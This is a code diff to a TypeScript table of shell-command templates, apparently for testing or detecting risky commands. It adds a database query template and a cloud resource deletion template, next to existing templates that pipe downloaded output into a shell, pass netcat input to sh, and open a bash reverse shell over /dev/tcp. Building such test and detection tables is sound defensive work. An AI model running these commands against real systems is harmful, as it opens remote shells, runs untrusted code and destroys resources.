@@ -29,6 +29,9 @@ export const EQUIVALENTS = {
   runOutput: (command: string) => line(`${command} | sh`),
   /** Talks to a socket, and may run what comes from it. */
   socket: (host: string, port: string, isRun: boolean) => line(`nc ${host} ${port}${isRun ? " | sh" : ""}`),
+  /** Asks a database. */
+  sql: (text: string, isLocal: boolean) => words(["psql", ...(isLocal ? ["-h", "localhost"] : []), "-c", text]),
+  cloudRemoval: () => words(["aws", "sdk", "delete-resource"]),
   /** Hands a shell to another machine. */
   reverseShell: (host: string) => line(`bash -i >& /dev/tcp/${host}/1 0>&1`),
 } as const satisfies Readonly<Record<string, (...args: never[]) => Inner>>;
